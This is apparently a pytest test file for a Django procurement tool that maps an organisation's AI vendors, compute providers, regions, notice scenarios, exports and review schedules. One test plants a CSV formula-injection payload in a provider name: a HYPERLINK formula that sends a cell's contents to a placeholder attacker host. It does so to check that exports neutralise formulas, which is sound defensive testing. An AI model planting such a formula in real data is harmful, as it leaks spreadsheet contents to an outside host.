"""Portfolio, scenarios, comparison and reviews over HTTP, on the demo portfolio."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from procurement.assessments.models import Assessment
from procurement.core.models import Organisation
from procurement.portfolio.selectors import latest_assessments, portfolio_load, review_schedule
from procurement.portfolio.services import link_change
from procurement.vendors.models import AIService, Provider, SupplyLink

pytestmark = pytest.mark.django_db


@pytest.fixture
def demo(db, demo_seeded_for_the_module):
    return Organisation.objects.get(slug="demo")


@pytest.fixture
def analyst_client(client, demo, django_user_model):
    client.force_login(django_user_model.objects.get(username="analyst"))
    return client


def _rival():
    return Provider.objects.get(name="Rival AI data centre (Ohio)")


def test_the_demo_portfolio_shows_the_shared_lab_and_region(analyst_client):
    page = analyst_client.get(reverse("portfolio:index")).content.decode()
    assert "highly concentrated" in page
    providers = page.split('id="providers"')[1].split("</section>")[0]
    frontier_row = providers.split("Frontier Lab</a></td>")[1].split("</tr>")[0]
    assert '>3 <span class="badge text-bg-warning">shared</span>' in frontier_row
    regions = page.split('id="regions"')[1].split("</section>")[0]
    # "us" and "us-east" are one row: the United States, with the region named under it.
    assert '<tr class="table-warning"><td>United States\n      <div class="text-secondary">us-east (United States)' in (
        regions
    )
    assert regions.count("<tr") == 3  # header, the United States, the EU
    us = regions.split("<td>United States")[1].split("</tr>")[0]
    # The tint is not the only signal (WCAG 1.4.1): the row says "shared" in words too.
    assert '<span class="badge text-bg-warning">shared</span>' in us


def test_eu_its_countries_and_its_cloud_regions_are_one_row_and_unknown_text_is_apart(analyst_client):
    """Issue 17: "eu", "eu-west-1" (Ireland) and "de" are not three regions; "mars-1" is an unknown location."""
    service = AIService.objects.get(name="Managed model (eu-west, provisioned)")
    link = SupplyLink.objects.get(service=service, role="inference_compute")
    link.regions = "aws:eu-west-1,de,mars-1"
    link.save()
    page = analyst_client.get(reverse("portfolio:index")).content.decode()
    regions = page.split('id="regions"')[1].split("</section>")[0]
    rows = regions.split("<tr")[2:]
    eu = next(r for r in rows if "<td>EU" in r)
    assert "AWS eu-west-1 (Ireland)" in eu and "Germany" in eu and "Ireland" in eu
    assert not [r for r in rows if "<td>Germany" in r or "<td>Ireland" in r or "<td>AWS" in r]
    unknown = next(r for r in rows if "unknown location" in r)
    assert "mars-1" in unknown and "outside" not in regions


def test_the_leased_capacity_reclaimed_on_90_days_lists_the_affected_services(analyst_client):
    response = analyst_client.get(reverse("portfolio:index"), {"provider": _rival().pk, "notice": 90})
    result = response.content.decode().split('id="scenario-result"')[1]
    assert "Rival AI data centre (Ohio) reclaims its capacity on 90 days&#x27; notice" in result
    for name in ("Frontier API", "ClaimsBot SaaS", "Helpdesk Copilot"):
        assert name in result
    assert "Managed model" not in result
    assert "180 days short" in result  # Frontier API: 180 days to migrate, notice not passed on


def test_scenario_exports_csv_and_pdf(analyst_client):
    params = {"provider": _rival().pk, "notice": 90}
    response = analyst_client.get(reverse("portfolio:scenario_export", args=["csv"]), params)
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert response["Content-Type"].startswith("text/csv")
    assert rows[1][0] == "service" and {r[0] for r in rows[2:]} >= {"Frontier Lab Inc. — Frontier API"}
    frontier = next(r for r in rows[2:] if r[0].endswith("Frontier API"))
    assert frontier[1] == "40.0" and frontier[2] == "" and frontier[4] == "180.0"
    pdf = analyst_client.get(reverse("portfolio:scenario_export", args=["pdf"]), params)
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")


def test_scenario_csv_neutralises_a_formula_in_the_provider_name_and_title(analyst_client):
    """F2: a provider named by an editor, or recorded from a vendor's provider table."""
    rival = _rival()
    rival.name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    rival.save()
    response = analyst_client.get(reverse("portfolio:scenario_export", args=["csv"]), {"provider": rival.pk})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][1].startswith("'=HYPERLINK(")
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize(
    "params",
    [
        {"provider": "999999"},
        {"region": "mars-1"},
        {"provider": "x", "notice": "soon"},
        {"region": "us-east", "notice": "-5"},
    ],
)
def test_bad_scenario_input_gets_a_message(analyst_client, params):
    response = analyst_client.get(reverse("portfolio:index"), params)
    assert response.status_code == 400 and "alert-danger" in response.content.decode()
    export = analyst_client.get(reverse("portfolio:scenario_export", args=["csv"]), params)
    assert export.status_code == 400


@pytest.mark.parametrize("region", ["eu", "de", "Germany"])
def test_a_region_scenario(analyst_client, region):
    """Every site within the chosen place: Germany is within the EU, and "Germany" names "de"."""
    response = analyst_client.get(reverse("portfolio:index"), {"region": region, "notice": 30})
    result = response.content.decode().split('id="scenario-result"')[1]
    assert "Managed model" in result and "Frontier API" not in result


def test_portfolio_data_is_scoped_to_the_organisation(client, demo, django_user_model):
    from procurement.core.services import membership_set

    org = Organisation.objects.create(name="Acme Buyer", slug="acme")
    outsider = django_user_model.objects.create_user("acme-analyst", password="x" * 16)
    membership_set(user=outsider, organisation=org, role="analyst")
    Provider.objects.create(organisation=org, name="Acme-only cloud")
    client.force_login(outsider)
    page = client.get(reverse("portfolio:index")).content.decode()
    assert "Rival AI" not in page and "Frontier API" not in page
    response = client.get(reverse("portfolio:index"), {"provider": _rival().pk})
    assert response.status_code == 400 and "Frontier API" not in response.content.decode()
    assert client.get(reverse("portfolio:scenario_export", args=["csv"]), {"provider": _rival().pk}).status_code == 400
    assert len(portfolio_load(org).service_chains) == 0


def test_compare_shows_bands_decisions_knockouts_and_chain_facts(analyst_client, demo):
    ids = [s.pk for s in AIService.objects.filter(vendor__organisation=demo).order_by("name")[:3]]
    page = analyst_client.get(reverse("portfolio:compare"), {"s": ids}).content.decode()
    table = page.split("compare-table")[1]
    assert "Knockouts" in table and "Effective notice" in table and "Largest compute provider" in table
    assert "LOC Inference location" in table
    assert analyst_client.get(reverse("portfolio:compare"), {"s": ids[:1]}).status_code == 400


def test_reviews_list_flagged_and_due_assessments(analyst_client, demo):
    approved = Assessment.objects.filter(organisation=demo, status="approved").earliest("decided_at")
    Assessment.objects.filter(pk=approved.pk).update(decided_at=timezone.now() - dt.timedelta(days=800))
    rows = review_schedule(demo, today=timezone.localdate())
    row = next(r for r in rows if r["assessment"].pk == approved.pk)
    assert row["overdue"] and row["months"] in (12, 24, 36)
    link = SupplyLink.objects.filter(from_provider__name="Frontier Lab", provider=_rival()).get()
    link.notice_days = 30
    link_change(link=link, organisation=demo)
    page = analyst_client.get(reverse("portfolio:reviews")).content.decode()
    assert "Shorter notice: Frontier Lab → Rival AI data centre (Ohio) now 30 days (was 90)" in page
    assert "overdue" in page


def test_the_schedule_lists_every_decided_service_and_can_keep_only_the_due(demo):
    approved = Assessment.objects.filter(organisation=demo, status="approved").earliest("decided_at")
    rows = review_schedule(demo, today=timezone.localdate())
    row = next(r for r in rows if r["assessment"].pk == approved.pk)
    assert not row["overdue"] and not row["soon"] and row["due"] > timezone.localdate()
    assert approved.pk not in [
        r["assessment"].pk for r in review_schedule(demo, today=timezone.localdate(), within_days=60)
    ]


def test_latest_assessments_take_two_queries_and_leave_frozen_records_in_the_database(demo, django_assert_num_queries):
    approved = Assessment.objects.filter(organisation=demo, status="approved").earliest("decided_at")
    with django_assert_num_queries(2):
        latest = latest_assessments(demo)
    mine = latest[approved.service_id]
    assert mine.pk == approved.pk and "frozen_record" in mine.get_deferred_fields()
    assert mine.frozen_tier == approved.frozen_record["score"]["tier"]
    # More decided assessments of the same service: still two queries, and the newest wins.
    same = {f: getattr(approved, f) for f in ("organisation", "service", "bank_version", "frozen_record", "decided_at")}
    Assessment.objects.bulk_create([Assessment(status="approved", **same) for _ in range(30)])
    newest = Assessment.objects.filter(service=approved.service).order_by("-created_at", "-pk").first()
    with django_assert_num_queries(2):
        assert latest_assessments(demo)[approved.service_id].pk == newest.pk != approved.pk


def test_the_portfolio_shows_the_model_provider_index_and_shared_model_providers(login, django_user_model, demo):
    page = login(django_user_model.objects.get(username="viewer")).get(reverse("portfolio:index")).content.decode()
    assert "Concentration of model providers" in page and 'id="model-concentration"' in page
